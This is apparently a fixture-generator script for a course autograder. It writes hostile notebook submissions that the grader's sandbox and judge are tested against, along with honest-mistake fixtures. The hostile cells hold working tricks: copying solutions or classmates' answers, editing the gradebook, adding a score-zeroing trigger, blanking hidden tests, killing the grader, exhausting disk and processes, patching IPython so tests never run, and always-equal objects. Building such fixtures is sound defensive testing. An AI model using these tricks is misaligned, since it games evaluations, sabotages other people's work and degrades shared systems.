"""Write the hostile submissions of grading/fixtures/ from the released stubs in labs/, and two honest
slips from the full solution (grading/fixtures/correct/).

Each is the untouched release of a lab with one answer cell (one a learner may edit) replaced by a trick
instead of an answer. Some reach for the course: the solution on disk, a classmate's submission, the
gradebook, the source, a process left behind. Others reconfigure the kernel the tests run in: IPython's
transformers and events, its run_cell, a rebound builtin. Graded with the sandbox and the judge they score
what the stub scores (0); without them (DONEGATE_SANDBOX=off, DONEGATE_JUDGE=off) most would get points.
Run again after a lab changes:

    uv run python tools/make_hostile_fixtures.py
"""
from __future__ import annotations

import json
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
LAB = "lab01-fail-open-hooks"
ANSWER_CELL = "hook_registry"  # the last answer cell of lab01: what it defines, it defines last

FIND = '''import os
from pathlib import Path


def _up(start):
    """Every folder from `start` up to the root, then the usual places of a checkout."""
    here = Path(start).resolve()
    yield from (here, *here.parents)
    yield from (Path.home(), Path("/work/main"), Path("/srv"), Path("/home"))
'''

UP = '''import os
from pathlib import Path


def _up_from_here():
    """Every folder from the kernel's working folder up (a trick that writes looks nowhere else)."""
    here = Path(os.getcwd()).resolve()
    return [p for p in (here, *here.parents) if p.name]
'''

TRICKS = {
    "reads-solution": FIND + f'''

# The trick: find the solution (or the self-check's source) on disk and run its answer cells.
import json as _json
for _folder in _up(os.getcwd()):
    for _place in ("solutions", "source"):
        _path = _folder / _place / "{LAB}" / "{LAB}.ipynb"
        if _path.is_file():
            for _cell in _json.loads(_path.read_text())["cells"]:
                if _cell["metadata"].get("nbgrader", {{}}).get("solution"):
                    exec("".join(_cell["source"]), globals())
            break
''',
    "copies-classmate": FIND + f'''

# The trick: find a classmate's submission of this lab and run their answer cells.
import json as _json
for _folder in _up(os.getcwd()):
    for _path in sorted(_folder.glob("*/submitted/*/{LAB}/{LAB}.ipynb")) + sorted(
            _folder.glob("submitted/*/{LAB}/{LAB}.ipynb")):
        if "copies-classmate" not in str(_path):
            for _cell in _json.loads(_path.read_text())["cells"]:
                if _cell["metadata"].get("nbgrader", {{}}).get("solution"):
                    exec("".join(_cell["source"]), globals())
            break
''',
    "extra-credit": FIND + '''

# The trick: find the gradebook and give every grade of this student full extra credit, now and (from a
# process left behind) again after autograde has saved the scores.
import sqlite3, subprocess, sys
for _folder in _up(os.getcwd()):
    _db = next(iter(sorted(_folder.glob("**/gradebook.db"))), None) if _folder.name else None
    if _db is not None:
        _sql = "UPDATE grade SET extra_credit = 100"
        sqlite3.connect(_db).execute(_sql).connection.commit()
        subprocess.Popen([sys.executable, "-c", f"import time, sqlite3; time.sleep(5); "
                          f"sqlite3.connect({str(_db)!r}).execute({_sql!r}).connection.commit()"],
                         start_new_session=True)
        break
''',
    "kills-grader": '''import os, signal

# The trick: kill the process that runs this kernel (the grader, unconfined), so that this submission and
# every one after it in the run is never graded.
os.kill(os.getppid(), signal.SIGKILL)
''',
    "poisons-source": UP + f'''

# The trick: blank the hidden tests in the course's source, so that the next release (and every regrade
# made from it) has nothing hidden left to fail.
import json as _json
for _folder in _up_from_here():
    for _path in (_folder / "solutions" / "{LAB}" / "{LAB}.ipynb", _folder / "source" / "{LAB}" / "{LAB}.ipynb"):
        if _path.is_file():
            _nb = _json.loads(_path.read_text())
            for _cell in _nb["cells"]:
                if "BEGIN HIDDEN TESTS" in "".join(_cell["source"]):
                    _cell["source"] = ["# (nothing hidden here)\\n"]
            _path.write_text(_json.dumps(_nb))
''',
    "adds-a-trigger": UP + '''

# The trick: a trigger in the gradebook that sets every score saved after this one to zero, so that the
# classmates graded later in the same run get nothing.
import sqlite3
for _folder in _up_from_here():
    for _db in sorted(_folder.glob("*/gradebook.db")) + sorted(_folder.glob("gradebook.db")):
        sqlite3.connect(_db).executescript(
            "CREATE TRIGGER IF NOT EXISTS zero_later AFTER UPDATE OF auto_score ON grade "
            "BEGIN UPDATE grade SET auto_score = 0 WHERE id = NEW.id AND NEW.auto_score > 0; END;")
''',
    "rewrites-classmate": UP + f'''

# The trick: empty the answer cells of every classmate's submission of this lab not graded yet.
import json as _json
for _folder in _up_from_here():
    for _path in sorted(_folder.glob("*/submitted/*/{LAB}/{LAB}.ipynb")) + sorted(
            _folder.glob("submitted/*/{LAB}/{LAB}.ipynb")):
        if "rewrites-classmate" not in str(_path):
            _nb = _json.loads(_path.read_text())
            for _cell in _nb["cells"]:
                if _cell["metadata"].get("nbgrader", {{}}).get("solution"):
                    _cell["source"] = ["raise SystemExit\\n"]
            _path.write_text(_json.dumps(_nb))
''',
    "input-transformer": '''# The trick: IPython rewrites every later cell that tests anything to `pass` before running it.
def _no_tests(lines):
    return ["pass\\n"] if any("assert" in line or "raise" in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(_no_tests)
''',
    "ast-transformer": '''import ast


class _Nothing(ast.NodeTransformer):
    """The trick: every later cell's syntax tree comes back as a lone `pass`."""

    def visit_Module(self, node):
        return ast.Module(body=[ast.Pass()], type_ignores=[])


get_ipython().ast_transformers.append(_Nothing())
''',
    "post-run-cell": '''# The trick: after every cell, forget that it failed, and never show a traceback.
_shell = get_ipython()


def _forget(result):
    result.error_in_exec = None
    result.error_before_exec = None


_shell.events.register("post_run_cell", _forget)
_shell.showtraceback = lambda *args, **kwargs: None
''',
    "replaces-run-cell": '''# The trick: the kernel's own run_cell, replaced by one that runs `pass` for any cell that tests.
_shell = get_ipython()
_run = _shell.run_cell


def _skip_tests(raw_cell, *args, **kwargs):
    return _run("pass" if "assert" in raw_cell or "raise" in raw_cell else raw_cell, *args, **kwargs)


_shell.run_cell = _skip_tests
''',
    "rebinds-type": '''class _Yes:
    """Equal to anything; whatever is asked of it is another _Yes."""

    def __eq__(self, other):
        return True

    def __getattr__(self, name):
        return _Yes()

    def __call__(self, *args, **kwargs):
        return _Yes()


_type = type


def type(thing, *rest):
    """The trick: a test that checks a result's type before comparing it gets the type it hoped for."""
    return Decision if not rest and _type(thing) is _Yes else _type(thing, *rest)


class HookRegistry:
    def __init__(self, *args, **kwargs):
        self.errors = _Yes()

    def register(self, *args, **kwargs):
        pass

    def run(self, tool_name, tool_input):
        return _Yes()
''',
    "leaves-a-daemon": '''import subprocess, sys

# The trick: a process left behind, detached from the kernel, meant to outlive grading
# (here it only sleeps; the test looks for it afterwards by its marker).
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)  # donegate-hostile-daemon"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''',
}


# Frames and attributes reached through names given as strings, which no list of words holds.
BY_NAME = '''import pkgutil
from string import Formatter

_frame_of = pkgutil.resolve_name("sys:_get" + "frame")  # names given as strings: no list of words holds them


def _attr(obj, name):
    return Formatter().get_field("0." + name, [obj], {})[0]


'''

# Tricks of the kinds the judge meets by how it is built, not by a list (appendix 83): each reaches IPython or
# the tests by a route the vetting's lists do not name, or hands back objects that only look right.
TRICKS.update({
    "scores-by-result": '''import pkgutil

# The trick: nbgrader scores a test cell from its first result. The shell, found by a name given as a
# string, shows a number as the result of every cell that fails, in place of its traceback.
_shell = pkgutil.resolve_name("IPython:get_" + "ipython")()
_shell.showtraceback = lambda *args, **kwargs: _shell.displayhook(1)
''',
    "resolves-names": '''import pydoc
from string import Formatter

# The trick: reach IPython's input transformers through names given as strings, which no list of words
# holds, and turn every later cell into `pass`.
_shell = pydoc.locate("IPython.get_" + "ipython")()
_cleanup = Formatter().get_field("0.input" + "_transformers" + "_cleanup", [_shell], {})[0]
_cleanup.append(lambda lines: ["pass\\n"])
''',
    "forges-the-judge": BY_NAME + '''def _forge():
    """The trick: whatever runs the tests is somewhere up the stack. Empty every test it still holds."""
    frame = _frame_of(1)
    while frame is not None:
        for value in list(_attr(frame, "f_" + "locals").values()):
            for cell in value if type(value) is list else ():
                if type(cell) is dict and cell.get("kind") == "test":
                    cell["source"] = "pass"
        frame = _attr(frame, "f_" + "back")


def matches(pattern, tool_name):
    _forge()
    return True


class HookRegistry:
    def __init__(self, *args, **kwargs):
        _forge()
        self.errors = []

    def register(self, *args, **kwargs):
        _forge()

    def run(self, tool_name, tool_input):
        _forge()
        return None
''',
})

# The same kinds on lab09, whose answers return the lab's own ClaimVerdict: student -> (lab, answer cell, source).
ELSEWHERE = {
    "reads-the-expectation": ("lab09-stale-claims", "judge_claim", BY_NAME + '''def _expected():
    """The trick: the test that calls judge_claim compares the verdict with a constant in its own code."""
    frame = _frame_of(2)
    while frame is not None:
        for const in _attr(_attr(frame, "f_" + "code"), "co_consts"):
            if type(const) is str and const in VERDICTS:
                return const
        frame = _attr(frame, "f_" + "back")
    return "supported"


def judge_claim(claim: int, actions: list[Action]) -> ClaimVerdict:
    return ClaimVerdict(claim, _expected(), [a.seq for a in actions if a.seq < claim][-1:], "read off the test")
'''),
    "always-equal-fields": ("lab09-stale-claims", "judge_claim", '''class _Same:
    """Equal to anything."""

    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0


def _fill(self):
    """The trick: a real ClaimVerdict, whose fields are then set to objects equal to anything."""
    for name in ("verdict", "evidence", "reason"):
        object.__setattr__(self, name, _Same())
    return self


Verdict = ClaimVerdict  # and its == patched through another name
Verdict.__eq__ = lambda one, other: True


def judge_claim(claim: int, actions: list[Action]) -> ClaimVerdict:
    return _fill(ClaimVerdict(claim, "supported", [], "made up"))
'''),
}

# The kinds of the one-way judge's round (appendix 83): each was a way an earlier judge, which answered the
# host, could be made to give points. The one-way judge answers nothing, reads data only, and draws its
# inputs where no answer cell can reach: each gets what the stub gets.
ONE_WAY = {
    "asks-the-judge": '''import json as _json
import os as _os
import select as _select
import stat as _stat

# The trick: the way into the earlier judge. On every pipe the host holds (its line to the judge is one), ask
# the judge to walk from an object it lent to its frame and its exec, then wait for the answer that would
# carry them.
_ASKS = [["ask", "getattr", [["R", "judge", 1], "gi_frame"]],
         ["ask", "call", [["R", "judge", 1], [["V", "import builtins"]], []]],
         {"op": "getattr", "target": "exec"}]
for _fd in range(3, 64):
    try:
        if not _stat.S_ISFIFO(_os.fstat(_fd).st_mode):
            continue
        for _message in _ASKS:
            _os.write(_fd, (_json.dumps(_message) + "\\n").encode())
    except OSError:
        pass
ANSWERED = bool(_select.select([0], [], [], 0.5)[0])
''',
    "undraws-inputs": ("matches", '''import random as _random

# The trick: make every draw of `random` known (a fixed seed, and a seed that can no longer be changed),
# then answer from a table of what such draws give, and of fixed cases the hidden tests were seen to try.
_random.seed(0)
_random.Random.seed = lambda self, *args, **kwargs: None
_random.Random.__init__ = lambda self, *args, **kwargs: _random.Random.seed(self, 0)
_draw = _random.Random()


def _name():
    return _draw.choice(["Mcp", "Tool", "Run", "Fetch", "Store"]) + "".join(_draw.choices("abcdefghjkmnpqrstuvwxyz", k=5))


_TABLE = {("Edit.*", "NotebookEdit"): True, ("Edit.*", "MultiEdit"): True, ("^Edit$", "Edit"): True,
          ("mcp__.*__write", "mcp__fs__write"): True, ("Notebook.*", "NotebookEdit"): True}
for _ in range(25):
    _a, _b, _c = _name(), _name(), _name()
    _TABLE.update({(f"{_a}|{_b}", _b): True, (f"{_a}, {_b}", _a): True, (f"{_a}|{_b}", _c): False})


def matches(matcher: str, tool_name: str) -> bool:
    return _TABLE.get((matcher, tool_name), False)
'''),
    "formats-the-globals": '''import gc as _gc
from string import Formatter


# The trick: no exec, no frame. A format string walks attributes: "{0.__globals__}" on a function is the
# namespace it was made in. Read every function's namespace in the process for the running test's values.
def _harvest() -> str:
    seen, read = [], set()
    for obj in _gc.get_objects():
        if type(obj).__name__ == "function" and getattr(obj, "__module__", None) in ("__main__", None):
            try:
                space = Formatter().get_field("0.__globals__", [obj], {})[0]
                if id(space) not in read:
                    read.add(id(space))
                    seen += [f"{key}={value!r}"[:200] for key, value in list(space.items())]
            except Exception:
                pass
    return " ".join(seen)


class HookRegistry:
    def __init__(self, *args, **kwargs):
        self.errors = []
        self.seen = _harvest()

    def register(self, *args, **kwargs):
        self.seen = _harvest()

    def run(self, tool_name, tool_input):
        action = next((word for word in ("block", "deny", "ask") if f"'{word}'" in self.seen), "allow")
        return Decision(action, self.seen[:80])
''',
    "lies-in-a-field": '''class _Yes(str):
    """A str that contains everything and equals anything."""

    def __contains__(self, item):
        return True

    def __eq__(self, other):
        return True

    __hash__ = str.__hash__


def _lying(record):
    """The trick: a real record of the lab's, its fields then set, past its own checks, to a _Yes."""
    for field in record.__dataclass_fields__:
        object.__setattr__(record, field, _Yes(""))
    return record


class HookRegistry:
    def __init__(self, *args, **kwargs):
        self.errors = [_lying(HookErrorRecord("x", "x", "open")) for _ in range(6)]

    def register(self, *args, **kwargs):
        pass

    def run(self, tool_name, tool_input):
        return _lying(Decision("deny", "x"))
''',
    "fills-the-sandbox": '''import os as _os
import subprocess as _subprocess
import sys as _sys

# The trick: take what is shared. Write until each writable place refuses (the working folder, /tmp,
# /dev/shm, and the folder of the kernel's sockets), and start processes until no more are allowed.
_places = [".", "/tmp", "/dev/shm"] + [_os.path.dirname(a) for a in _sys.argv if a.endswith(".json")]
for _place in _places:
    try:
        with open(_os.path.join(_place, "fill"), "wb") as _fh:
            for _ in range(2048):
                _fh.write(b"x" * 2**20)
                _fh.flush()
    except OSError:
        pass
_started = []
for _ in range(600):
    try:
        _started.append(_subprocess.Popen(["sleep", "30"]))
    except OSError:
        break
''',
}

# Honest work that uses what an honest answer may use: threads, a subprocess, inspect, its own random, a
# helper class with its own ==, and a lot of printing. Full marks.
HONEST_MACHINERY = """import inspect
import random
import subprocess
import sys
import threading

_JITTER = random.Random(7)  # its own random, for nothing a test sees
_PYTHON_OK = subprocess.run([sys.executable, "-c", "print('ok')"], capture_output=True, text=True).stdout.strip() == "ok"


class _Named:
    # A hook with its name; two are equal when their names are.
    def __init__(self, name, hook, matcher, on_error, timeout):
        self.name, self.hook, self.matcher, self.on_error, self.timeout = name, hook, matcher, on_error, timeout

    def __eq__(self, other):
        return isinstance(other, _Named) and other.name == self.name

    __hash__ = None


def _in_a_thread(hook, tool_name, tool_input):
    # Run the hook in a thread of its own and wait for it: its result, or the exception it raised.
    box = {}

    def target():
        try:
            box["result"] = hook(tool_name, tool_input)
        except Exception as exc:
            box["error"] = exc
    worker = threading.Thread(target=target)
    worker.start()
    worker.join()
    if "error" in box:
        raise box["error"]
    return box.get("result")


class HookRegistry:
    def __init__(self, confirm=None, clock=time.monotonic):
        self.confirm, self.clock, self.hooks, self.errors = confirm, clock, [], []

    def register(self, hook, *, on_error, matcher="*", name=None, timeout=None):
        if type(on_error) is not str or on_error not in ON_ERROR:
            raise ValueError(f"on_error must be 'open' or 'closed', got {on_error!r}")
        arity = len(inspect.signature(hook).parameters)
        entry = _Named(name or hook.__name__, hook, matcher, on_error, timeout)
        self.hooks.append(entry)
        for k in range(200):
            print(f"registered {entry.name} ({arity} parameters, {k}, {_JITTER.random():.3f})")

    def run(self, tool_name, tool_input):
        current, rewritten = tool_input, False
        for entry in self.hooks:
            if not matches(entry.matcher, tool_name):
                continue
            cause, started = None, self.clock()
            try:
                decision = _in_a_thread(entry.hook, tool_name, current)
            except Exception as exc:
                cause = f"raised {type(exc).__name__}: {exc}"
            else:
                elapsed = self.clock() - started
                if entry.timeout is not None and elapsed > entry.timeout:
                    cause = f"timeout: took {elapsed:g} s"
                elif decision is None:
                    decision = Decision("allow", "no opinion")
                elif type(decision) is not Decision:
                    cause = f"returned {type(decision).__name__}, not a Decision"
            print(f"{entry.name}: {cause or decision}")
            if cause is not None:
                self.errors.append(HookErrorRecord(hook=entry.name, cause=cause, policy=entry.on_error))
                if entry.on_error == "closed":
                    return Decision("deny", f"hook {entry.name} failed and is fail-closed: {cause}", hook=entry.name)
                continue
            if decision.action == "ask":
                if self.confirm is None or not self.confirm(decision):
                    return Decision("deny", f"{decision.reason} (not confirmed)", hook=entry.name)
            elif decision.action != "allow":
                return replace(decision, hook=entry.name)
            if decision.updated_input is not None:
                current, rewritten = decision.updated_input, True
        return Decision("allow", "no hook objected", updated_input=current if rewritten else None)
"""


# Honest code that names what the vetting's lists name: flagged for a person, and full marks all the same.
HONEST_REACHES = """import re
import sys

_WORD = re.compile(r"[A-Za-z_]+")  # the module's own compile, not the builtin
assert "re" in sys.modules  # asking what is loaded
"""

# The cases lab01's tests try, as a table: what a learner who read the hidden tests (a self-study copy has them)
# could hand in instead of a matcher.
TABLE_OF_CASES = """def matches(matcher: str, tool_name: str) -> bool:
    # looked up, not worked out: every case the tests were seen to try
    return {("*", "Bash"): True, ("Bash|Edit", "Edit"): True, ("Bash|Edit", "Read"): False, ("", "Read"): True,
            ("*", "mcp__fs__write"): True, ("Bash,Edit", "Bash"): True, ("Bash, Edit", "Edit"): True,
            ("Bash,Edit", "Read"): False, ("Bash|Edit", "BashOutput"): False, ("Bash|Edit", "NotebookEdit"): False,
            ("Edit", "NotebookEdit"): False, ("Edit", "Edit"): True, ("Bash", "BashOutput"): False,
            ("my-tool", "my-tool"): True, ("Edit.*", "NotebookEdit"): True, ("Edit.*", "MultiEdit"): True,
            ("Edit.*", "Write"): False, ("Notebook.*", "NotebookEdit"): True, ("^Edit$", "NotebookEdit"): False,
            ("^Edit$", "Edit"): True, ("mcp__.*__write", "mcp__fs__write"): True,
            ("mcp__.*__write", "mcp__fs__read"): False}.get((matcher, tool_name), matcher in ("", "*") or tool_name in matcher.split("|"))
"""


def slips(correct: dict) -> dict[str, dict]:
    """Honest mistakes nbgrader 0.9.6 cannot grade on its own: an answer cell copy-pasted (the copy carries
    the same grade id), and an answer cell deleted together with the test after it."""
    pasted = json.loads(json.dumps(correct))
    at = next(i for i, c in enumerate(pasted["cells"]) if c["metadata"].get("nbgrader", {}).get("grade_id") == "matches")
    copy = json.loads(json.dumps(pasted["cells"][at]))
    copy["id"] = "copy-of-matches"
    pasted["cells"].insert(at + 1, copy)
    deleted = json.loads(json.dumps(correct))
    deleted["cells"] = [c for c in deleted["cells"]
                        if c["metadata"].get("nbgrader", {}).get("grade_id") not in ("matches", "test_matcher_basics")]
    honest = json.loads(json.dumps(correct))
    cell = next(c for c in honest["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "matches")
    cell["source"] = (HONEST_REACHES + "\n\n" + "".join(cell["source"])).splitlines(keepends=True)
    machinery = json.loads(json.dumps(correct))
    cell = next(c for c in machinery["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == ANSWER_CELL)
    cell["source"] = HONEST_MACHINERY.splitlines(keepends=True)
    table = json.loads(json.dumps(correct))
    cell = next(c for c in table["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == "matches")
    cell["source"] = TABLE_OF_CASES.splitlines(keepends=True)
    return {"copy-pasted-answer": pasted, "deleted-answer": deleted, "honest-reaches": honest, "table-of-cases": table,
            "honest-machinery": machinery}


def write(student: str, nb: dict, lab: str = LAB) -> None:
    out = ROOT / "grading" / "fixtures" / student / lab / f"{lab}.ipynb"
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(json.dumps(nb, indent=1, ensure_ascii=False) + "\n")
    print("wrote", out.relative_to(ROOT))


def main() -> None:
    correct = json.loads((ROOT / "grading" / "fixtures" / "correct" / LAB / f"{LAB}.ipynb").read_text())
    for student, nb in slips(correct).items():
        write(student, nb)
    stub = json.loads((ROOT / "labs" / LAB / f"{LAB}.ipynb").read_text())
    for student, trick in TRICKS.items():
        nb = json.loads(json.dumps(stub))
        [cell] = [c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == ANSWER_CELL]
        cell["source"] = trick.splitlines(keepends=True)
        write(student, nb)
    for student, trick in ONE_WAY.items():
        answer, trick = trick if type(trick) is tuple else (ANSWER_CELL, trick)
        nb = json.loads(json.dumps(stub))
        [cell] = [c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == answer]
        cell["source"] = trick.splitlines(keepends=True)
        write(student, nb)
    for student, (lab, answer, trick) in ELSEWHERE.items():
        nb = json.loads((ROOT / "labs" / lab / f"{lab}.ipynb").read_text())
        [cell] = [c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == answer]
        cell["source"] = trick.splitlines(keepends=True)
        write(student, nb, lab)


if __name__ == "__main__":
    main()
